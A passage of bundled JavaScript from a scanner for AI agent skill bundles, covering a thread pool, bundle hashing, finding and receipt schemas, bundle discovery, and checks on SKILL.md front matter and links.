    const programs = units.flatMap((unit) => programs_programsOf(unit, filter));
    let aboutSecurity;
    const view = {
        bundle,
        files,
        binaries,
        others: bundle.others,
        units,
        programs,
        get aboutSecurity() {
            return (aboutSecurity ??= filesAboutSecurity(files));
        },
    };
    return { view, skipped };
}
/** The text of a file in UTF-8, or in UTF-16 with a byte order mark; undefined for anything else that holds zero bytes. */
function textOf(bytes) {
    if (bytes.length === 0)
        return undefined;
    if (bytes[0] === 0xff && bytes[1] === 0xfe)
        return new TextDecoder('utf-16le').decode(bytes);
    if (bytes[0] === 0xfe && bytes[1] === 0xff)
        return new TextDecoder('utf-16be').decode(bytes);
    if (bytes.subarray(0, 8192).includes(0))
        return undefined;
    // Threat: one stray byte must not hide a script from every rule, so text in another encoding is read byte by byte.
    return (0,core_text/* decodeUtf8 */._6)(bytes) ?? new TextDecoder('latin1').decode(bytes);
}
let anchorSet;
/** The one automaton over the anchors of all rules: built on first use, since it is the same for every bundle. */
function anchorsOf(detectors) {
    anchorSet ??= new AnchorSet([
        ...EXTRA_ANCHORS,
        ...DECISIVE_ANCHORS,
        ...CAPABILITY_ANCHORS,
        ...detectors.flatMap((detector) => detector.signals.flatMap((one) => [...one.anchors, ...one.needs.flat()])),
    ]);
    return anchorSet;
}

;// CONCATENATED MODULE: ./lib/skills/analysis/pool.js





/** Below this a thread costs more to start than it saves: 4 MiB. */
const WORTH_THREADS_BYTES = 4 * 1024 * 1024;
const MAX_THREADS = 8;
/** An analyser for an amount of content: threads where they pay and where their code lies beside ours, else this thread. */
function openAnalyser(bytes) {
    const threads = Math.min(MAX_THREADS, (0,external_node_os_.availableParallelism)());
    const url = bytes < WORTH_THREADS_BYTES || threads < 2 ? undefined : (0,assets/* workerUrl */.O)();
    return url === undefined ? inThisThread : new AnalysisPool(url, threads);
}
/** Analyses where it is called. */
const inThisThread = {
    // eslint-disable-next-line @typescript-eslint/require-await -- what is thrown becomes a rejection, as in the pool
    analyse: async (bundle) => analyse(bundle),
    close: () => Promise.resolve(),
};
/** Worker threads that each analyse bundles one after the other; a job goes to the thread with the least to do. */
class AnalysisPool {
    #threads;
    #nextId = 0;
    constructor(url, size) {
        this.#threads = Array.from({ length: size }, () => startThread(url));
    }
    analyse(bundle) {
        const [first, ...others] = this.#threads;
        if (first === undefined)
            return inThisThread.analyse(bundle);
        const thread = others.reduce((best, other) => (other.pendingBytes < best.pendingBytes ? other : best), first);
        const size = bundle.files.reduce((sum, file) => sum + file.size, 1);
        const id = this.#nextId;
        this.#nextId += 1;
        thread.pendingBytes += size;
        return new Promise((resolve, reject) => {
            thread.waiting.set(id, { resolve, reject });
            const job = { id, bundle };
            thread.worker.postMessage(job);
        }).finally(() => {
            thread.pendingBytes -= size;
        });
    }
    async close() {
        await Promise.all(this.#threads.map((thread) => thread.worker.terminate()));
    }
}
function startThread(url) {
    const thread = { worker: new external_node_worker_threads_.Worker(url), waiting: new Map(), pendingBytes: 0 };
    thread.worker.on('message', (answer) => {
        const job = thread.waiting.get(answer.id);
        thread.waiting.delete(answer.id);
        if (answer.facts === undefined)
            job?.reject(new Error(`the analysis of a bundle failed: ${answer.error}`));
        else
            job?.resolve(answer.facts);
    });
    const failAll = (reason) => {
        for (const job of thread.waiting.values())
            job.reject(new Error(`an analysis thread ended: ${reason}`));
        thread.waiting.clear();
    };
    thread.worker.on('error', (error) => {
        failAll((0,errors/* messageOf */.b)(error));
    });
    thread.worker.on('exit', (code) => {
        failAll(`exit code ${String(code)}`);
    });
    return thread;
}


/***/ }),

/***/ 7829:
/***/ (function (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   K: () => (/* binding */ bundleSha256)
/* harmony export */ });
/* harmony import */ var _core_digest_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(3871);
/* harmony import */ var _core_order_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(4223);


/**
 * SkillVault's `bundle_sha256`: SHA-256 over `path LF sha256 LF` of each file, sorted by the UTF-8 bytes of the path, which
 * is the order of code points. A path cannot hold a line feed unnoticed: such names are refused as unsafe.
 */
function bundleSha256(files) {
    return (0,_core_digest_js__WEBPACK_IMPORTED_MODULE_0__/* .sha256Hex */ .f)((0,_core_order_js__WEBPACK_IMPORTED_MODULE_1__/* .sortedBy */ .V)(files, (file) => file.path)
        .map((file) => `${file.path}\n${file.sha256}\n`)
        .join(''));
}


/***/ }),

/***/ 606:
/***/ (function (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Ce: () => (/* binding */ plainFinding),
/* harmony export */   FN: () => (/* binding */ orderContractFindings),
/* harmony export */   cA: () => (/* binding */ lineOf),
/* harmony export */   kT: () => (/* binding */ contractFinding)
/* harmony export */ });
/* unused harmony export codeOfRule */
/* harmony import */ var _core_order_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(4223);
/* harmony import */ var _rules_registry_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(5893);


const SEVERITY = { error: 'error', warning: 'warn', note: 'info' };
/** A finding in SkillVault's shape, paths relative to the bundle; `details` keeps what the shape has no member for. */
function contractFinding(finding) {
    const rule = (0,_rules_registry_js__WEBPACK_IMPORTED_MODULE_0__/* .ruleOf */ .Y)(finding.rule);
    const { region } = finding;
    const place = region === undefined
        ? {}
        : {
            start_line: region.startLine,
            start_column: region.startColumn,
            end_line: region.endLine,
            end_column: region.endColumn,
        };
    return {
        code: finding.code ?? codeOfRule(finding.rule),
        severity: SEVERITY[finding.level],
        message: rule?.message(finding.details) ?? finding.rule,
        ...(finding.path === '' ? {} : { path: finding.path }),
        details: {
            rule_id: finding.rule,
            severity: finding.severity,
            confidence: finding.confidence,
            ...(region === undefined ? {} : { region: place }),
            ...(finding.snippet === undefined ? {} : { snippet: finding.snippet }),
            help: rule?.help(finding.details) ?? '',
            ...finding.details,
        },
    };
}
/** A finding that stands for itself and comes from no rule: a mismatch between a receipt and a bundle. */
function plainFinding(code, message, path, details) {
    return {
        code,
        severity: 'error',
        message,
        ...(path === undefined ? {} : { path }),
        ...(details === undefined ? {} : { details: { ...details } }),
    };
}
/** `skill/remote-script` becomes `SKILL_REMOTE_SCRIPT`, for rules without a code of SkillVault's. */
function codeOfRule(rule) {
    return rule.toUpperCase().replace(/[^A-Z0-9]/g, '_');
}
const RANK = { error: 0, warn: 1, info: 2 };
/** Orders findings: graver first, then by path, place, code and message. */
function orderContractFindings(findings) {
    return [...findings].sort((a, b) => RANK[a.severity] - RANK[b.severity] ||
        (0,_core_order_js__WEBPACK_IMPORTED_MODULE_1__/* .compareCodePoints */ .O)(a.path ?? '', b.path ?? '') ||
        lineOf(a) - lineOf(b) ||
        (0,_core_order_js__WEBPACK_IMPORTED_MODULE_1__/* .compareCodePoints */ .O)(a.code, b.code) ||
        (0,_core_order_js__WEBPACK_IMPORTED_MODULE_1__/* .compareCodePoints */ .O)(a.message, b.message));
}
/** The line that a finding points at, 0 for none. */
function lineOf(finding) {
    const region = finding.details?.['region'];
    const line = typeof region === 'object' && region !== null && 'start_line' in region ? region.start_line : undefined;
    return typeof line === 'number' ? line : 0;
}


/***/ }),

/***/ 5217:
/***/ (function (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   KS: () => (/* binding */ receiptSchema),
/* harmony export */   Kw: () => (/* binding */ CONTRACT_VERSION)
/* harmony export */ });
/* unused harmony exports findingSchema, fileSchema, riskScoreSchema, policyDecisionSchema, scanSchema, gateSchema, signatureSchema, verifySchema, diffSchema, exportSchema, approveSchema, SKILL_DOCUMENTS */
/* harmony import */ var zod__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(8816);
/* harmony import */ var _analysis_facts_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(7570);
/* harmony import */ var _policy_skill_policy_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(7115);



/** The JSON of `vaultgate skill …`: SkillVault's contracts 0.1. Members may be added, never renamed. */
const CONTRACT_VERSION = '0.1';
const version = zod__WEBPACK_IMPORTED_MODULE_0__/* .literal */ .euz(CONTRACT_VERSION);
const sha256 = zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP().regex(/^[0-9a-f]{64}$/);
const time = zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP().min(1);
const size = zod__WEBPACK_IMPORTED_MODULE_0__/* .int */ .Whr().min(0);
const points = zod__WEBPACK_IMPORTED_MODULE_0__/* .number */ .aig().min(0).max(100);
const verdict = zod__WEBPACK_IMPORTED_MODULE_0__/* ["enum"] */ .k5n(_policy_skill_policy_js__WEBPACK_IMPORTED_MODULE_1__/* .SKILL_VERDICTS */ .D);
/** Loose throughout: a receipt may come from a later version or from another tool, and what it adds is signed too. */
const findingSchema = zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({
    code: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP(),
    severity: zod__WEBPACK_IMPORTED_MODULE_0__/* ["enum"] */ .k5n(['error', 'warn', 'info']),
    message: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP(),
    path: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP().optional(),
    details: zod__WEBPACK_IMPORTED_MODULE_0__/* .record */ .g1P(zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP(), zod__WEBPACK_IMPORTED_MODULE_0__/* .unknown */ .L5J()).optional(),
});
const fileSchema = zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({ path: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP(), size, sha256 });
const riskScoreSchema = zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({ base_risk: points, change_risk: points, policy_delta: points, total: points });
const policyDecisionSchema = zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({
    contract_version: version,
    verdict,
    thresholds: zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({ pass_max: zod__WEBPACK_IMPORTED_MODULE_0__/* .number */ .aig(), warn_max: zod__WEBPACK_IMPORTED_MODULE_0__/* .number */ .aig(), fail_max: zod__WEBPACK_IMPORTED_MODULE_0__/* .number */ .aig() }),
    gates: zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({ max_risk_score: points.optional(), allow_verdicts: zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(verdict).optional() }),
    risk_score: riskScoreSchema,
    findings: zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(findingSchema),
});
const summarySchema = zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({ file_count: size, total_bytes: size, deterministic: zod__WEBPACK_IMPORTED_MODULE_0__/* .boolean */ .zMY() });
const capabilityList = zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP()).describe(`Known are ${_analysis_facts_js__WEBPACK_IMPORTED_MODULE_2__/* .CAPABILITIES */ .$.join(', ')}.`);
const scanSchema = zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({
    contract_version: version,
    created_at: time,
    bundle_sha256: sha256,
    files: zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(fileSchema),
    manifest: fileSchema.nullable(),
    capabilities: capabilityList,
    risk_score: riskScoreSchema,
    summary: summarySchema,
    findings: zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(findingSchema),
});
const gateSchema = zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({
    contract_version: version,
    created_at: time,
    verdict,
    risk_score: riskScoreSchema,
    findings: zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(findingSchema),
    policy: policyDecisionSchema,
});
const signatureSchema = zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({
    alg: zod__WEBPACK_IMPORTED_MODULE_0__/* .literal */ .euz('ed25519'),
    key_id: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP().optional(),
    payload_sha256: sha256,
    sig: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP().regex(/^[A-Za-z0-9+/]{86}==$/, 'an Ed25519 signature in base64 is needed'),
});
const receiptSchema = zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({
    contract_version: version,
    created_at: time,
    scanner: zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({ name: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP(), version: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP() }),
    bundle_sha256: sha256,
    files: zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(fileSchema),
    manifest: fileSchema,
    scan: zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({
        capabilities: capabilityList,
        risk_score: riskScoreSchema,
        summary: summarySchema,
        findings: zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(findingSchema),
    }),
    policy: policyDecisionSchema,
    signature: signatureSchema,
});
const verifySchema = zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({
    contract_version: version,
    created_at: time,
    receipt: zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({ bundle_sha256: sha256 }).nullable(),
    bundle_sha256: sha256,
    verified: zod__WEBPACK_IMPORTED_MODULE_0__/* .boolean */ .zMY(),
    findings: zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(findingSchema),
    policy: policyDecisionSchema,
});
const change = zod__WEBPACK_IMPORTED_MODULE_0__/* ["enum"] */ .k5n(['added', 'removed', 'modified', 'unchanged']);
const diffSchema = zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({
    contract_version: version,
    created_at: time,
    a: zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({ bundle_sha256: sha256 }),
    b: zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({ bundle_sha256: sha256 }),
    file_diffs: zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({ path: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP(), change, a: fileSchema.optional(), b: fileSchema.optional() })),
    capability_deltas: zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({ added: capabilityList, removed: capabilityList }),
    finding_deltas: zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({ added: zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(findingSchema), removed: zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(findingSchema) }),
    summary: zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({ added: size, removed: size, modified: size, unchanged: size }),
});
const exportSchema = zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({
    contract_version: version,
    created_at: time,
    profile: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP(),
    out_path: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP(),
    bundle_sha256: sha256,
    files: zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(fileSchema),
    findings: zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(findingSchema),
    validated: zod__WEBPACK_IMPORTED_MODULE_0__/* .boolean */ .zMY(),
});
const approveSchema = zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({
    contract_version: version,
    created_at: time,
    path: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP(),
    approval: zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({
        kind: zod__WEBPACK_IMPORTED_MODULE_0__/* .literal */ .euz('capability'),
        digest: sha256,
        capability: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP(),
        by: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP(),
        reason: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP(),
        expires: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP(),
    }),
});
/** The documents by the command that writes them; `docs/schemas/skill-<command>.schema.json` is made of these. */
const SKILL_DOCUMENTS = {
    scan: scanSchema,
    gate: gateSchema,
    receipt: receiptSchema,
    verify: verifySchema,
    diff: diffSchema,
    export: exportSchema,
    approve: approveSchema,
};


/***/ }),

/***/ 6748:
/***/ (function (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   BG: () => (/* binding */ findArchives),
/* harmony export */   Fl: () => (/* binding */ baseName),
/* harmony export */   h3: () => (/* binding */ findFolderBundles),
/* harmony export */   yS: () => (/* binding */ folderOf),
/* harmony export */   zU: () => (/* binding */ isManifestName)
/* harmony export */ });
/* harmony import */ var _io_snapshot_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(4554);

const MANIFEST_NAME = /^skill\.md$/i;
/** The last part of a POSIX path. */
function baseName(path) {
    return path.slice(path.lastIndexOf('/') + 1);
}
/** All but the last part of a POSIX path, empty for a name alone. */
function folderOf(path) {
    return path.slice(0, Math.max(0, path.lastIndexOf('/')));
}
/** Whether a name is that of a manifest in any letter case. */
function isManifestName(name) {
    return MANIFEST_NAME.test(name);
}
/** Finds every folder bundle of a tree. A manifest that is a link anchors one too, so that it is judged and not passed over. */
function findFolderBundles(entries, options) {
    const roots = new Set(options.forcedRoot === undefined ? [] : [options.forcedRoot]);
    for (const entry of entries) {
        if (!isManifestName(baseName(entry.path)))
            continue;
        const root = folderOf(entry.path);
        if (!options.searchDependencies && hasDependencyFolder(root))
            continue;
        if (options.wanted(root))
            roots.add(root);
    }
    return roots.size === 0 ? [] : groupByRoot(entries, roots, options.repositoryTop);
}
function hasDependencyFolder(root) {
    return root.split('/').includes('node_modules');
}
function groupByRoot(entries, roots, repositoryTop) {
    const collected = new Map([...roots].map((root) => [root, { entries: [], leftOut: [] }]));
    for (const entry of entries) {
        for (const root of enclosingFolders(entry.path)) {
            const bundle = collected.get(root);
            if (bundle === undefined)
                continue;
            if (root === '' && repositoryTop && isControlFile(entry.path))
                bundle.leftOut.push(entry.path);
            else
                bundle.entries.push(entry);
        }
    }
    const groups = new Map();
    const byDepth = [...collected].sort(([a], [b]) => a.length - b.length);
    for (const [root, bundle] of byDepth) {
        const outer = enclosingFolders(root).find((folder) => groups.has(folder));
        const found = { root, ...bundle };
        if (root === '' || outer === undefined)
            groups.set(root, { outermost: found, nested: [] });
        else
            groups.get(outer)?.nested.push(found);
    }
    return [...groups.values()];
}
/** The folders around a path, outermost first, starting with the root of the tree. */
function enclosingFolders(path) {
    const folders = [''];
    for (let slash = path.indexOf('/'); slash >= 0; slash = path.indexOf('/', slash + 1))
        folders.push(path.slice(0, slash));
    return folders;
}
/** What governs a repository is no part of a bundle that is the whole repository: a receipt cannot hold its own hash. */
function isControlFile(path) {
    return (path.startsWith('.vaultgate/') || /^(?:receipts\/(?:[^/]+\/)*)?[^/]*\.receipt\.json$/.test(path) || /^receipts\/[^/]+\.json$/.test(path));
}
/** Archives that may be bundles: regular files named `.zip` or `.skill`. */
function findArchives(entries, options) {
    return entries.filter((entry) => (0,_io_snapshot_js__WEBPACK_IMPORTED_MODULE_0__/* .isRegularFile */ .Ze)(entry) &&
        /\.(?:zip|skill)$/i.test(entry.path) &&
        options.wanted(entry.path) &&
        (options.searchDependencies || !hasDependencyFolder(folderOf(entry.path))));
}


/***/ }),

/***/ 5689:
/***/ (function (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  q: () => (/* binding */ manifestNames),
  W: () => (/* binding */ readManifest)
});

// EXTERNAL MODULE: ./lib/core/rule.js
var rule = __webpack_require__(7849);
// EXTERNAL MODULE: ./lib/core/text.js
var core_text = __webpack_require__(9716);
// EXTERNAL MODULE: ./lib/rules/skill-policy/front-matter.js
var front_matter = __webpack_require__(731);
// EXTERNAL MODULE: ./lib/skills/discovery.js
var discovery = __webpack_require__(6748);
// EXTERNAL MODULE: ./lib/rules/skill-policy/manifest-field.js
var manifest_field = __webpack_require__(4604);
;// CONCATENATED MODULE: ./lib/skills/manifest/check-fields.js



/** The fields of the Agent Skills specification. */
const SPECIFIED = ['name', 'description', 'license', 'compatibility', 'metadata', 'allowed-tools'];
/** Fields that agents read beyond the specification (Claude Code, Codex, Copilot, OpenClaw), and widespread harmless ones. */
const KNOWN = new Set([
    ...SPECIFIED,
    'when_to_use',
    'argument-hint',
    'arguments',
    'disable-model-invocation',
    'user-invocable',
    'disallowed-tools',
    'tools',
    'model',
    'effort',
    'context',
    'background',
    'agent',
    'hooks',
    'paths',
    'globs',
    'shell',
    'display-name',
    'default-enabled',
    'fallback',
    'version',
    'author',
    'authors',
    'tags',
    'keywords',
    'category',
    'categories',
    'homepage',
    'repository',
    'source',
    'url',
    'title',
    'dependencies',
    'requires',
    'mcp',
    'examples',
    'triggers',
    'type',
    'status',
    'updated',
    'created',
    'date',
]);
const MAX_NAME = 64;
const MAX_DESCRIPTION = 1024;
const MAX_COMPATIBILITY = 500;
/** The faults of the fields against the specification, each at its place; none of them weighs anything in the score. */
function fieldFindings(path, fields, opening) {
    const say = (field, fault, region, grading = {}) => (0,rule/* findingOf */.h)(manifest_field/* manifestField */.e, { path, region, snippet: `${field}: ${fault}` }, { field, fault }, grading);
    return [
        ...nameFaults(fields, opening, say),
        ...descriptionFaults(fields, opening, say),
        ...typeFaults(fields, say),
        ...unknownFields(fields, say),
    ];
}
function nameFaults(fields, opening, say) {
    const field = fields.get('name');
    if (field === undefined)
        return [say('name', 'is missing; agents fall back to the name of the folder, or skip the skill', opening)];
    const { value, region } = field;
    if (typeof value !== 'string' || value === '')
        return [say('name', 'is not a text', region)];
    const name = value.normalize('NFKC');
    if (name.length > MAX_NAME)
        return [say('name', `has ${String(name.length)} characters; ${String(MAX_NAME)} are allowed`, region)];
    // Threat: letters that look like others let a skill pass for one that it is not.
    if (/[^\u0020-\u007e]/.test(name))
        return [say('name', 'holds letters outside a to z, which may look like others', region)];
    if (!/^[a-z0-9]+(?:-[a-z0-9]+)*$/.test(name)) {
        return [say('name', 'must be lower-case letters, digits and single hyphens between them', region, { level: 'note' })];
    }
    return [];
}
function descriptionFaults(fields, opening, say) {
    const field = fields.get('description');
    if (field === undefined)
        return [say('description', 'is missing; agents skip a skill without one', opening)];
    const { value, region } = field;
    if (typeof value !== 'string' || value.trim() === '')
        return [say('description', 'is empty or not a text', region)];
    if (value.length <= MAX_DESCRIPTION)
        return [];
    return [
        say('description', `has ${String(value.length)} characters; ${String(MAX_DESCRIPTION)} are allowed, and agents cut the rest`, region),
    ];
}
function typeFaults(fields, say) {
    const findings = [];
    const compatibility = fields.get('compatibility');
    if (compatibility !== undefined && (typeof compatibility.value !== 'string' || compatibility.value.length > MAX_COMPATIBILITY)) {
        findings.push(say('compatibility', `must be a text of at most ${String(MAX_COMPATIBILITY)} characters`, compatibility.region, NOTE));
    }
    const metadata = fields.get('metadata');
    if (metadata !== undefined && (typeof metadata.value !== 'object' || metadata.value === null || Array.isArray(metadata.value))) {
        findings.push(say('metadata', 'must be a map', metadata.region, NOTE));
    }
    const tools = fields.get('allowed-tools');
    if (tools !== undefined && !isToolList(tools.value)) {
        findings.push(say('allowed-tools', 'must be a text of tools between blanks, or a list of them', tools.region));
    }
    return findings;
}
const NOTE = { level: 'note' };
function isToolList(value) {
    return value === null || typeof value === 'string' || (Array.isArray(value) && value.every((tool) => typeof tool === 'string'));
}
/** Only what is probably misspelt: agents pass over fields that they do not know. */
function unknownFields(fields, say) {
    return [...fields].flatMap(([key, field]) => {
        if (KNOWN.has(key))
            return [];
        const meant = (0,core_text/* nearestWord */.zZ)(key, SPECIFIED.filter((name) => !fields.has(name)));
        if (meant === undefined)
            return [];
        return [say((0,core_text/* snippetOf */.Vv)(key, 60), `is not a field of the specification; did you mean ${meant}?`, field.keyRegion, NOTE)];
    });
}

// EXTERNAL MODULE: ./lib/io/yaml/read-yaml.js + 2 modules
var read_yaml = __webpack_require__(675);
;// CONCATENATED MODULE: ./lib/skills/manifest/plain-fields.js
const LINE = /^([A-Za-z][A-Za-z0-9_-]{0,63}):( {1,8})(\S.{0,4000})$/u;
/** A value that starts like a word, or like a version of three numbers. */
const WORDLIKE = /^(?:\p{L}|\d{1,9}\.\d{1,9}\.\d)/u;
/** What would make a plain value something else to YAML: a nested key, a comment, a tab, or a word with a meaning of its own. */
const NOT_PLAIN = /: |:$| #|\t|\s$/;
const WORDS = /^(?:true|false|null|yes|no|on|off|y|n)$/i;
/** Quoted on one line, without an escape. */
const DOUBLE_QUOTED = /^"([^"\\\t]*)"$/;
const SINGLE_QUOTED = /^'([^'\t]*)'$/;
/**
 * Reads front matter that is nothing but `key: words` on single lines, quoted or not, which most is, without the cost of a
 * YAML parser; undefined for anything else. What it answers is what the parser would.
 */
function readPlainFields(lines) {
    const fields = new Map();
    for (const [index, line] of lines.entries()) {
        if (line === '')
            continue;
        const [, key = '', gap = '', source = ''] = LINE.exec(line) ?? [];
        const value = plain_fields_valueOf(source);
        if (value === undefined || fields.has(key) || key === 'constructor' || key === 'prototype')
            return undefined;
        const at = index + 2;
        const start = key.length + 2 + gap.length;
        fields.set(key, {
            value,
            keyRegion: { startLine: at, startColumn: 1, endLine: at, endColumn: key.length + 1 },
            region: { startLine: at, startColumn: start, endLine: at, endColumn: start + source.length },
        });
    }
    return fields.size === 0 ? undefined : fields;
}
function plain_fields_valueOf(source) {
    const quoted = DOUBLE_QUOTED.exec(source) ?? SINGLE_QUOTED.exec(source);
    if (quoted !== null)
        return quoted[1];
    return WORDLIKE.test(source) && !NOT_PLAIN.test(source) && !WORDS.test(source) ? source : undefined;
}

;// CONCATENATED MODULE: ./lib/skills/manifest/front-matter.js


const OPENING = { startLine: 1, startColumn: 1, endLine: 1, endColumn: 4 };
/** Lines of front matter beyond which it is not looked for its end. */
const MAX_LINES = 2000;
/**
 * Reads the front matter of the Agent Skills specification: YAML between a `---` in the very first line and the next `---`.
 * `lines` are those of the manifest without a byte order mark.
 */
function readFrontMatter(lines) {
    if (lines[0]?.trimEnd() !== '---')
        return { kind: 'absent' };
    const end = lines.slice(1, MAX_LINES).findIndex((line) => line.trimEnd() === '---');
    if (end < 0)
        return { kind: 'broken', fault: 'is not closed by a line ---', region: OPENING };
    const inner = lines.slice(1, end + 1);
    const bodyLine = end + 3;
    const plain = readPlainFields(inner);
    if (plain !== undefined)
        return { kind: 'read', fields: plain, bodyLine };
    const read = (0,read_yaml/* readYaml */.gM)(inner.join('\n'));
    if (!read.ok) {
        const [problem] = read.problems;
        return { kind: 'broken', fault: problem?.message ?? 'cannot be read', region: shifted(problem?.region) ?? OPENING };
    }
    return fieldsOf(read.document, bodyLine);
}
function fieldsOf(document, bodyLine) {
    const { value } = document;
    if (typeof value !== 'object' || value === null || Array.isArray(value)) {
        return { kind: 'broken', fault: value === null ? 'is empty' : 'is not a map of keys and values', region: OPENING };
    }
    const fields = new Map();
    for (const [key, member] of Object.entries(value)) {
        fields.set(key, {
            value: member,
            keyRegion: shifted(document.regionOfKey([key])) ?? OPENING,
            region: shifted(document.regionOf([key])) ?? OPENING,
        });
    }
    return { kind: 'read', fields, bodyLine };
}
/** The YAML starts in the second line of the manifest. */
function shifted(region) {
    return region === undefined ? undefined : { ...region, startLine: region.startLine + 1, endLine: region.endLine + 1 };
}

// EXTERNAL MODULE: ./lib/rules/skill-policy/broken-reference.js
var broken_reference = __webpack_require__(5713);
;// CONCATENATED MODULE: ./lib/skills/manifest/references.js


/** A link or image of Markdown with its target; every part is bounded, so that the search is linear. */
const LINK = /\[[^\][\n]{0,300}\]\(([^()\s<>]{1,300})(?:\s{1,8}"[^"\n]{0,200}")?\)/g;
const FENCE = /^ {0,3}(`{3,}|~{3,})/;
/** Findings of one manifest. */
const MAX_FINDINGS = 20;
/** The files that a manifest's body points at and that the bundle lacks, or that lie outside it. */
function referenceFindings(path, lines, bodyLine, files) {
    const findings = [];
    let fence;
    for (let index = bodyLine - 1; index < lines.length && findings.length < MAX_FINDINGS; index += 1) {
        const line = lines[index] ?? '';
        const mark = FENCE.exec(line)?.[1];
        if (fence !== undefined) {
            if (mark?.startsWith(fence) === true)
                fence = undefined;
            continue;
        }
        if (mark !== undefined)
            fence = mark;
        else if (line.includes(']('))
            findings.push(...lineFindings(path, line, index + 1, files));
    }
    return findings.slice(0, MAX_FINDINGS);
}
function lineFindings(path, line, number, files) {
    const visible = line.replace(/`[^`\n]*`/g, (code) => ' '.repeat(code.length));
    return [...visible.matchAll(LINK)].flatMap((match) => {
        const target = match[1] ?? '';
        const fault = faultOf(target, files);
        if (fault === undefined)
            return [];
        const start = match.index + match[0].indexOf(target) + 1;
        const region = { startLine: number, startColumn: start, endLine: number, endColumn: start + target.length };
        return [(0,rule/* findingOf */.h)(broken_reference/* brokenReference */.j, { path, region, snippet: target }, { target, fault })];
    });
}
/** Judges a target by its text and the list of files; anything that may be meant otherwise is left alone. */
function faultOf(target, files) {
    const plain = decoded(target.replace(/[#?].*$/, '')).replace(/\/+$/, '');
    if (plain === '' || /^[a-z][a-z0-9+.-]*:/i.test(plain) || plain.startsWith('/') || /[{}$*]|\.\.\./.test(plain))
        return undefined;
